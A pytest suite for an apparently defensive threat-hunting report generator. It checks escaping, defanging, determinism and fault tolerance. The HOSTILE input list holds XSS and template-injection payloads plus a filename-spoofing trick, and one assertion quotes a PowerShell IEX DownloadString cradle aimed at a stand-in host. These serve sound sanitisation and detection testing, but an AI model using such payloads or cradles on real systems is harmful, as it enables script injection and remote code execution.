"""The report: complete, harmless, honest about what is missing, and the same every time."""

import html
import re
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest

import huntkit
from huntkit.core.errors import EvidenceError, QueryError, UsageError
from huntkit.report import report
from huntkit.sources.demo import TITLE, make_demo

HOSTILE = [
    "<script>document.title='owned'</script>",
    '"><img src=http://203.0.113.9/x onerror="document.title=1">',
    "</script></style><svg onload=alert(1)>",
    "\x1b[31mred",
    "invoice\u202efdp.exe",
    "nul\x00inside",
    "javascript:alert(1)",
    "{{ 7*7 }}{% include 'x' %}",
    "A" * 1_000_000,
    "http://evil.example.com/<b>",
]


@pytest.fixture(scope="module")
def demo_page(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("demo")
    with huntkit.open(make_demo(folder), cache=False) as evidence:
        return report(evidence, title=TITLE).to_html()


@pytest.fixture
def hostile_page(evidence: Callable[..., Any], process_rows: Callable[..., pl.DataFrame]) -> str:
    rows = process_rows(
        *(
            {
                "DeviceName": text,
                "AccountName": text,
                "FolderPath": text,
                "FileName": text,
                "ProcessCommandLine": text,
                "ProcessId": number + 10,
                "_file": text[:200],
                "_record": number,
            }
            for number, text in enumerate(HOSTILE)
        )
    )
    names = {"DeviceProcessEvents": rows, "<b>Odd'\"</b>": rows.select(pl.all())}
    given = evidence(names, partial=True, problems=["<img src=x>\x1b[0m: broken"])
    return report(given, title="<script>alert(1)</script>\u202e").to_html()


def test_the_demo_story_is_in_the_report(demo_page: str) -> None:
    text = html.unescape(re.sub(r"<[^>]+>", " ", demo_page.replace("<wbr>", "")))
    assert TITLE in text
    for told in (
        "IEX (New-Object Net.WebClient).DownloadString('http://cdn.updates-portal.example.net",
        "203[.]0[.]113[.]45",
        "Security log cleared",
        "Service installed",
        "User created",
        "OUTLOOK.EXE → WINWORD.EXE",
        "Failed logons",
        "lark-ws02.nxlog.ndjson",
        "Read = kept + skipped",
    ):
        assert told in text


def test_names_of_hosts_and_files_break_between_their_parts_only(demo_page: str) -> None:
    assert ">lark-ws02.<wbr>larkspur.<wbr>example</td>" in demo_page
    assert ">lark-ws02.<wbr>nxlog.<wbr>ndjson, " in demo_page
    assert '<span class="item">lark-ws01.<wbr>larkspur.<wbr>example</span>, ' in demo_page


def test_an_empty_column_and_a_plural_of_one_are_not_shown(demo_page: str) -> None:
    assert "Why skipped" not in demo_page
    assert "1 peak or dip;" in demo_page


def test_indicators_are_defanged(demo_page: str) -> None:
    section = demo_page[demo_page.index('<section id="indicators"') :]
    section = section[: section.index("</section>")]
    assert "hxxp://cdn[.]updates-portal" in section
    assert "http://" not in section
    assert "href=" not in section


def test_the_page_is_small_and_asks_for_nothing(demo_page: str) -> None:
    assert len(demo_page) < 3_000_000
    assert demo_page.index("Content-Security-Policy") < demo_page.index("<style")
    outside = re.findall(r"<(?:link|iframe|img|script[^>]*\ssrc|object|embed)\b", demo_page)
    assert outside == []
    assert re.findall(r'\s(?:href|src)="(?!#)[^"]*"', demo_page) == []
    assert re.findall(r"<[a-z]+[^>]*\sstyle=", demo_page.split("<script", 1)[0]) == []


def test_the_same_evidence_gives_the_same_bytes(
    evidence: Callable[..., Any], process_rows: Callable[..., pl.DataFrame]
) -> None:
    rows = process_rows(*({"ProcessId": n, "_record": n} for n in range(1, 30)))
    pages = [report(evidence({"DeviceProcessEvents": rows})).to_html() for _ in range(2)]
    assert pages[0] == pages[1]


def test_headings_and_landmarks_are_in_order(demo_page: str) -> None:
    assert demo_page.count("<main") == demo_page.count("<h1") == demo_page.count("<nav") == 1
    assert '<html lang="en">' in demo_page
    tables = demo_page.count("<table>")
    assert demo_page.count("<caption>") + demo_page.count('class="hk-table"') >= tables
    for target in re.findall(r'href="#([^"]+)"', demo_page):
        assert f'id="{target}"' in demo_page


def test_hostile_text_stays_text(hostile_page: str) -> None:
    assert "<script>alert" not in hostile_page
    assert "<script>document" not in hostile_page
    assert "<img" not in hostile_page
    assert "<svg onload" not in hostile_page
    assert "<b>" not in hostile_page
    assert "&lt;script&gt;document.title" in hostile_page
    assert "{{ 7*7 }}" in html.unescape(hostile_page)
    assert not any(bad in hostile_page for bad in ("\x1b", "\x00", "\u202e"))
    assert len(hostile_page) < 3_000_000


def test_partial_evidence_is_announced_on_top(hostile_page: str) -> None:
    banner = hostile_page.index("This evidence is incomplete")
    assert banner < hostile_page.index('id="notable"')
    assert "&lt;img src=x&gt;␛[0m: broken" in hostile_page


def test_an_empty_evidence_still_gives_a_report(evidence: Callable[..., Any]) -> None:
    page = report(evidence({})).to_html()
    assert "Not judged: no process starts in this evidence." in page
    assert "not “clean”" in page


def test_starts_that_say_nothing_are_no_failure(tmp_path: Path) -> None:
    (tmp_path / "log.json").write_text('{"EventID": 4688, "Channel": "Security"}\n')
    made = report(huntkit.open(tmp_path, cache_dir=tmp_path / "cache"))
    assert not made.facts.partial
    assert "Not judged: no process starts in this evidence." in made.to_html()


def test_long_tables_say_how_much_is_shown(
    evidence: Callable[..., Any], process_rows: Callable[..., pl.DataFrame]
) -> None:
    rows = process_rows(
        *({"DeviceName": f"host{n}", "ProcessId": n, "_record": n} for n in range(150))
    )
    page = report(evidence({"DeviceProcessEvents": rows})).to_html()
    assert "100 of 150 shown" in page


def test_a_side_that_fails_is_named_and_the_rest_stands(
    evidence: Callable[..., Any],
    process_rows: Callable[..., pl.DataFrame],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def fail(*_: object, **__: object) -> None:
        raise QueryError("the engine is tired")

    monkeypatch.setattr("huntkit.report.overview.failed_logons", fail)
    made = report(evidence({"DeviceProcessEvents": process_rows({})}))
    assert made.facts.partial
    assert made.facts.hosts.height == 1
    assert "the section failed logons failed: the engine is tired" in made.to_html()


SIDES = [
    "overview.overview", "overview.failed_logons", "notable.notable", "processes.processes",
    "amounts.amounts", "logons.logons", "trails.trails", "texts.distinct_texts", "encoded.encoded",
    "risky.judged", "indicators.indicators", "processes.branches", "standouts.standouts",
    "connections.connections",
]  # fmt: skip
SECTIONS = [
    "sections._notable", "risky_section.section", "standout_section.section", "sections._activity",
    "sections._encoded", "sections._processes", "sections.picture_sections", "sections._indicators",
    "sections._hosts", "sections._users", "sections._tables", "sections._files", "gist.section",
]  # fmt: skip


@pytest.mark.parametrize("broken", [*SIDES, *SECTIONS])
def test_a_fault_of_ours_in_one_part_costs_no_other(
    broken: str,
    evidence: Callable[..., Any],
    process_rows: Callable[..., pl.DataFrame],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def fail(*_: object, **__: object) -> None:
        raise KeyError("odd \ud800 value")

    monkeypatch.setattr(f"huntkit.report.{broken}", fail)
    made = report(evidence({"DeviceProcessEvents": process_rows({})}))
    page = made.to_bytes().decode()
    assert made.facts.partial
    assert len(made.facts.failed) == 1
    assert "KeyError" in page
    assert page.count("<section") >= (len(SECTIONS) - 1) // 2


def test_nothing_is_overwritten_without_force(evidence: Callable[..., Any], tmp_path: Path) -> None:
    made = report(evidence({}))
    path = made.save(tmp_path / "a.html")
    with pytest.raises(UsageError, match="exists"):
        made.save(path)
    made.save(path, force=True)
    with pytest.raises(EvidenceError, match="can't write"):
        made.save(tmp_path / "no" / "a.html")


def test_a_hundred_thousand_rows_are_asked_by_sql(
    evidence: Callable[..., Any], process_rows: Callable[..., pl.DataFrame]
) -> None:
    one = process_rows({})
    rows = pl.concat([one] * 100).with_columns(_record=pl.int_range(100))
    rows = pl.concat([rows] * 1_000).with_columns(
        _record=pl.int_range(100_000),
        TimeGenerated=pl.lit(one["TimeGenerated"][0])
        + pl.int_range(100_000) * timedelta(seconds=1),
    )
    quiet = rows.select("TimeGenerated", "DeviceName", "AccountName", "_file", "_record")
    page = report(evidence({"Syslog": quiet})).to_html()
    assert "100,000" in page
    assert len(page) < 1_000_000
